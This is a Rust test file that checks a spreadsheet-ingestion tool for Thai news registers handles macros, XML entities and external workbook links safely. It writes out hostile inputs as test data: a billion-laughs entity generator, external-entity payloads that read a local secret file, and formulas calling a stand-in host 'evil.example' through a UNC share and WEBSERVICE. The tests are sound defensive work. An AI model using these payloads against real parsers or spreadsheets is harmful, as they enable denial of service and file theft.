//! What files bring besides their cells: macros, links to other workbooks, and XML that means more than it says.

use std::collections::BTreeMap;
use std::fs;
use std::io::{Cursor, Read, Write};

use pramoen::definition::{Language, load};
use pramoen::ingest::{InputFile, read};
use pramoen::issue::Issue;
use pramoen::model::dataset::Dataset;
use pramoen::{Checked, Options};
use rust_xlsxwriter::{Formula, Workbook};
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

use super::content::content;
use super::outputs::parts;

const HEADS: [&str; 4] = ["เลขที่ข่าว", "หัวข้อข่าว", "ประเภทข่าว", "วันเวลาเผยแพร่"];
const NEWS: [&str; 4] = ["1", "ประชุมผู้บริหาร", "ประชุม", "15 ก.ค. 2569 15:00"];

/// A register of one record as a workbook, whose parts may be changed.
fn workbook(change: impl Fn(&mut BTreeMap<String, String>)) -> Vec<u8> {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, (head, value)) in (0..).zip(HEADS.iter().zip(NEWS)) {
        sheet.write_string(0, column, *head).unwrap();
        sheet.write_string(1, column, value).unwrap();
    }
    let mut own = parts(&book.save_to_buffer().unwrap());
    change(&mut own);
    packed(&own)
}

fn packed(parts: &BTreeMap<String, String>) -> Vec<u8> {
    let mut archive = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, text) in parts {
        archive.start_file(name, SimpleFileOptions::default()).unwrap();
        archive.write_all(text.as_bytes()).unwrap();
    }
    archive.finish().unwrap().into_inner()
}

/// The same as an `OpenDocument`.
fn document(prolog: &str, title: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let cell = |text: &str| {
        format!("<table:table-cell office:value-type=\"string\"><text:p>{text}</text:p></table:table-cell>")
    };
    let row = |cells: [&str; 4]| format!("<table:table-row>{}</table:table-row>", cells.map(cell).concat());
    let content = format!(
        "<?xml version=\"1.0\"?>{prolog}<office:document-content xmlns:office=\"o\" xmlns:table=\"t\" xmlns:text=\"x\">\
         <office:body><office:spreadsheet><table:table table:name=\"ก\">{}{}</table:table></office:spreadsheet>\
         </office:body></office:document-content>",
        row(HEADS),
        row([NEWS[0], title, NEWS[2], NEWS[3]])
    );
    let mut own = BTreeMap::from([
        ("META-INF/manifest.xml".to_owned(), "<manifest/>".to_owned()),
        ("content.xml".to_owned(), content),
        ("mimetype".to_owned(), "application/vnd.oasis.opendocument.spreadsheet".to_owned()),
    ]);
    own.extend(more.iter().map(|(name, text)| ((*name).to_owned(), (*text).to_owned())));
    packed(&own)
}

/// The same in the XML of Excel 2003.
fn spreadsheet_ml(prolog: &str, title: &str) -> Vec<u8> {
    let cell = |text: &str| format!("<Cell><Data ss:Type=\"String\">{text}</Data></Cell>");
    let row = |cells: [&str; 4]| format!("<Row>{}</Row>", cells.map(cell).concat());
    let (heads, news) = (row(HEADS), row([NEWS[0], title, NEWS[2], NEWS[3]]));
    format!(
        "<?xml version=\"1.0\"?>{prolog}<Workbook xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" \
         xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\"><Worksheet ss:Name=\"ก\"><Table>{heads}{news}</Table>\
         </Worksheet></Workbook>"
    )
    .into_bytes()
}

fn page(prolog: &str, title: &str) -> Vec<u8> {
    let row = |cells: [&str; 4]| format!("<tr>{}</tr>", cells.map(|text| format!("<td>{text}</td>")).concat());
    let (heads, news) = (row(HEADS), row([NEWS[0], title, NEWS[2], NEWS[3]]));
    format!("{prolog}<html><body><table>{heads}{news}</table></body></html>").into_bytes()
}

fn found(name: &str, bytes: &[u8]) -> Dataset {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join(name);
    fs::write(&path, bytes).unwrap();
    let definitions = load(None, None).unwrap();
    let files = [InputFile { name: name.into(), path }];
    read(&files, &definitions, "2026-10-15".parse().unwrap(), &|_| {})
}

fn codes(issues: &[Issue]) -> Vec<&'static str> {
    issues.iter().map(|issue| issue.problem.code()).collect()
}

fn rows(dataset: &Dataset) -> usize {
    dataset.tables.get("news").map_or(0, |table| table.frame.height())
}

/// A workbook of Excel 97-2003 with an empty sheet... and a storage beside it.
fn old_workbook(storage: Option<&str>) -> Vec<u8> {
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/ingest-files/ทะเบียนข่าว.xls");
    let mut container = cfb::CompoundFile::open(Cursor::new(fs::read(path).unwrap())).unwrap();
    if let Some(storage) = storage {
        container.create_storage(storage).unwrap();
        container.flush().unwrap();
    }
    container.into_inner().into_inner()
}

#[test]
fn macros_are_not_run_and_the_officer_hears_of_them() {
    let part = |name: &'static str| workbook(move |parts| drop(parts.insert(name.to_owned(), "x".to_owned())));
    for (name, bytes, expected) in [
        ("ก.xlsm", part("xl/vbaProject.bin"), true),
        ("ก.xlsx", part("XL/VBAPROJECT.BIN"), true),
        ("ก.xlsm", part("xl/macrosheets/sheet1.xml"), true),
        ("ก.xlsx", part("xl/media/basic.bin"), false),
        ("ก.ods", document("", NEWS[1], &[("Basic/Standard/Module1.xml", "<x/>")]), true),
        ("ก.ods", document("", NEWS[1], &[("Scripts/python/a.py", "import os")]), true),
        ("ก.ods", document("", NEWS[1], &[("Pictures/basic.xml", "<x/>")]), false),
    ] {
        let dataset = found(name, &bytes);
        assert_eq!(rows(&dataset), 1, "{name}: its cells are read: {:?}", dataset.issues);
        assert_eq!(codes(&dataset.issues).contains(&"macros-not-run"), expected, "{name}: {:?}", dataset.issues);
    }
    for (storage, expected) in [(Some("_VBA_PROJECT_CUR"), true), (None, false)] {
        let dataset = found("ก.xls", &old_workbook(storage));
        assert!(rows(&dataset) > 0);
        assert_eq!(codes(&dataset.issues).contains(&"macros-not-run"), expected, "{storage:?}");
    }
}

#[test]
fn macros_under_other_names_are_known_by_what_the_workbook_says_of_its_parts() {
    let said = |kind: &str| {
        let kinds = format!("<Override PartName=\"/xl/a.bin\" ContentType=\"application/{kind}\"/></Types>");
        workbook(move |parts| {
            let text = parts.get_mut("[Content_Types].xml").unwrap();
            *text = text.replace("</Types>", &kinds);
        })
    };
    for (kind, expected) in [
        ("vnd.ms-office.vbaProject", true),
        ("vnd.ms-excel.macrosheet+xml", true),
        ("vnd.ms-excel.sheet.macroEnabled.main+xml", false),
        ("vnd.ms-excel.sheet.binary.macroEnabled.main", false),
        ("vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml", false),
    ] {
        let dataset = found("ก.xlsx", &said(kind));
        assert_eq!(rows(&dataset), 1, "{kind}: {:?}", dataset.issues);
        assert_eq!(codes(&dataset.issues).contains(&"macros-not-run"), expected, "{kind}: {:?}", dataset.issues);
    }
}

#[test]
fn sheets_of_macros_in_an_old_workbook_are_told_of() {
    // The last of its sheets is empty: what it is listed as costs no rows.
    for (kind, expected) in [(0_u8, false), (1, true), (2, false), (6, true)] {
        let mut container = cfb::CompoundFile::open(Cursor::new(old_workbook(None))).unwrap();
        let mut records = Vec::new();
        container.open_stream("Workbook").unwrap().read_to_end(&mut records).unwrap();
        let (mut at, mut listed) = (0, Vec::new());
        while records[at..at + 2] != [0x0A, 0] {
            listed.extend((records[at..at + 2] == [0x85, 0]).then_some(at));
            at += 4 + usize::from(u16::from_le_bytes([records[at + 2], records[at + 3]]));
        }
        records[listed[2] + 4 + 5] = kind;
        container.open_stream("Workbook").unwrap().write_all(&records).unwrap();
        container.flush().unwrap();
        for bytes in [container.into_inner().into_inner(), records] {
            let dataset = found("ก.xls", &bytes);
            assert!(rows(&dataset) > 0, "{kind}: {:?}", dataset.issues);
            assert_eq!(codes(&dataset.issues).contains(&"macros-not-run"), expected, "{kind}: {:?}", dataset.issues);
        }
    }
}

/// Ten entities, each ten times the one before: a text of a thousand million letters.
fn laughs() -> String {
    let entities = (1..10).map(|number| format!("<!ENTITY l{number} \"{}\">", format!("&l{};", number - 1).repeat(10)));
    format!("<!DOCTYPE x [<!ENTITY l0 \"ha\">{}]>", entities.collect::<String>())
}

#[test]
fn an_entity_stands_for_nothing_in_any_kind_of_file() {
    let folder = tempfile::tempdir().unwrap();
    let secret = folder.path().join("secret.txt");
    fs::write(&secret, "SECRETMARK").unwrap();
    let outer = format!("<!DOCTYPE x [<!ENTITY e SYSTEM \"file://{}\">]>", secret.display());
    let parameter = format!("<!DOCTYPE x [<!ENTITY % p SYSTEM \"file://{}\"> %p;]>", secret.display());
    let prologs = [(laughs(), "&l9;"), (outer, "&e;"), (parameter, "ก")];
    for (prolog, title) in &prologs {
        let in_part = |part: &'static str| {
            workbook(|parts| {
                let text = parts.get_mut(part).unwrap();
                *text = text.replacen("?>", &format!("?>{prolog}"), 1).replace(NEWS[1], title);
            })
        };
        let in_sheet = workbook(|parts| {
            let cell = format!("<c r=\"B2\" t=\"inlineStr\"><is><t>{title}</t></is></c>");
            let text = parts.get_mut("xl/worksheets/sheet1.xml").unwrap();
            let start = text.find("<c r=\"B2\"").unwrap();
            let end = start + text[start..].find("</c>").unwrap() + 4;
            text.replace_range(start..end, &cell);
            *text = text.replacen("?>", &format!("?>{prolog}"), 1);
        });
        for (name, bytes) in [
            ("ก.xlsx", in_sheet),
            ("ก.xlsx", in_part("xl/sharedStrings.xml")),
            ("ก.xlsx", in_part("xl/workbook.xml")),
            ("ก.xlsx", in_part("xl/styles.xml")),
            ("ก.xlsx", in_part("xl/_rels/workbook.xml.rels")),
            ("ก.xlsx", in_part("[Content_Types].xml")),
            ("ก.ods", document(prolog, title, &[])),
            ("ก.xls", spreadsheet_ml(prolog, title)),
            ("ก.xls", page(prolog, title)),
            ("ก.csv", [prolog.as_bytes(), b"\n", &page("", title)].concat()),
        ] {
            let dataset = found(name, &bytes);
            let said = format!("{:?}", dataset.issues);
            let read = dataset.tables.get("news").map(|table| format!("{:?}", table.frame)).unwrap_or_default();
            for text in [&said, &read] {
                assert!(!text.contains("SECRETMARK") && !text.contains("haha"), "{name} {title}: {text}");
            }
            // What is not understood is not passed over in silence, but for a page, where it is what stands there.
            let as_written = read.contains(title);
            assert!(
                said.contains("amaged") || as_written || (rows(&dataset) == 1 && *title == "ก"),
                "{name}: {said} {read}"
            );
        }
    }
}

#[test]
fn a_file_that_declares_entities_is_refused_wherever_it_does_and_uses_none() {
    let declared = "<!DOCTYPE x [<!ENTITY x \"EXP\">]>";
    let comment = format!("<!--{}-->", "x".repeat(80 << 10));
    let quoted = format!("<!DOCTYPE x SYSTEM \"><a\" [<!--{}--><!ENTITY x \"EXP\">]>", "'".repeat(80 << 10));
    let prologs =
        [(declared.to_owned(), true), (format!("{comment}{declared}"), true), (quoted, true), (comment, false)];
    for (prolog, refused) in prologs {
        let in_part = |part: &'static str| {
            workbook(|parts| {
                let text = parts.get_mut(part).unwrap();
                *text = text.replacen("?>", &format!("?>{prolog}"), 1);
            })
        };
        for (name, bytes) in [
            ("ก.xlsx", in_part("xl/worksheets/sheet1.xml")),
            ("ก.xlsx", in_part("xl/sharedStrings.xml")),
            ("ก.xlsx", in_part("xl/_rels/workbook.xml.rels")),
            ("ก.ods", document(&prolog, NEWS[1], &[])),
        ] {
            let dataset = found(name, &bytes);
            let expected = if refused { (0, vec!["damaged-file"]) } else { (1, vec![]) };
            assert_eq!((rows(&dataset), codes(&dataset.issues)), expected, "{name}: {:?}", dataset.issues);
        }
    }
    let workbook = |prolog: &str| found("ก.xls", &spreadsheet_ml(prolog, NEWS[1]));
    let dataset = workbook("<!DOCTYPE Workbook [<!ENTITY x \"EXP\">]>");
    assert_eq!((rows(&dataset), codes(&dataset.issues)), (0, vec!["damaged-file"]));
    let dataset = workbook("<!DOCTYPE Workbook>");
    assert_eq!((rows(&dataset), codes(&dataset.issues)), (1, vec![]));
}

#[test]
fn a_type_of_document_without_entities_is_none_of_our_business() {
    // As the first programs of OpenDocument wrote it.
    let manifest =
        "<!DOCTYPE manifest:manifest PUBLIC \"-//OpenOffice.org//DTD Manifest 1.0//EN\" \"Manifest.dtd\"><manifest/>";
    let dataset = found("ก.ods", &document("", NEWS[1], &[("META-INF/manifest.xml", manifest)]));
    assert_eq!((rows(&dataset), codes(&dataset.issues)), (1, vec![]));
}

/// What is checked of an office with one workbook.
fn checked(name: &str, bytes: &[u8]) -> (Checked, BTreeMap<String, Vec<u8>>) {
    let folder = tempfile::tempdir().unwrap();
    fs::create_dir(folder.path().join("input")).unwrap();
    fs::write(folder.path().join("input").join(name), bytes).unwrap();
    let out = folder.path().join("out");
    let options = Options {
        out: Some(out.clone()),
        ..Options::new(folder.path().to_owned(), "2026-10-15".parse().unwrap(), Language::Thai)
    };
    let checked = pramoen::check(&options, true, &|_| {}).unwrap();
    (checked, content(&out))
}

#[test]
fn a_link_to_another_workbook_is_not_followed_and_does_not_leave() {
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    for (column, head) in (0..).zip(HEADS) {
        sheet.write_string(0, column, head).unwrap();
    }
    for (column, value) in (0..).zip(NEWS) {
        sheet.write_string(1, column, value).unwrap();
    }
    // Its value as the other workbook had it, and one that nobody has reckoned.
    let outside = Formula::new("'\\\\evil.example\\share\\[ก.xlsx]ข่าว'!A1").set_result("จากสมุดอื่น");
    sheet.write_formula(2, 1, outside).unwrap();
    sheet.write_formula(2, 2, Formula::new("WEBSERVICE(\"http://evil.example\")").set_result("ประชุม")).unwrap();
    sheet.write_string(2, 0, "2").unwrap();
    sheet.write_string(2, 3, "ไม่ใช่วัน").unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let dataset = found("ก.xlsx", &bytes);
    assert!(
        format!("{:?}", dataset.tables["news"].frame.column("title")).contains("จากสมุดอื่น"),
        "what was kept is read"
    );
    let (_, files) = checked("ก.xlsx", &bytes);
    for (name, bytes) in files.iter().filter(|(name, _)| name.ends_with("corrections.xlsx")) {
        for (part, text) in parts(bytes) {
            assert!(!text.contains("evil.example"), "{name} {part}");
        }
    }
    assert!(files.keys().any(|name| name.ends_with("corrections.xlsx")), "{:?}", files.keys());
}
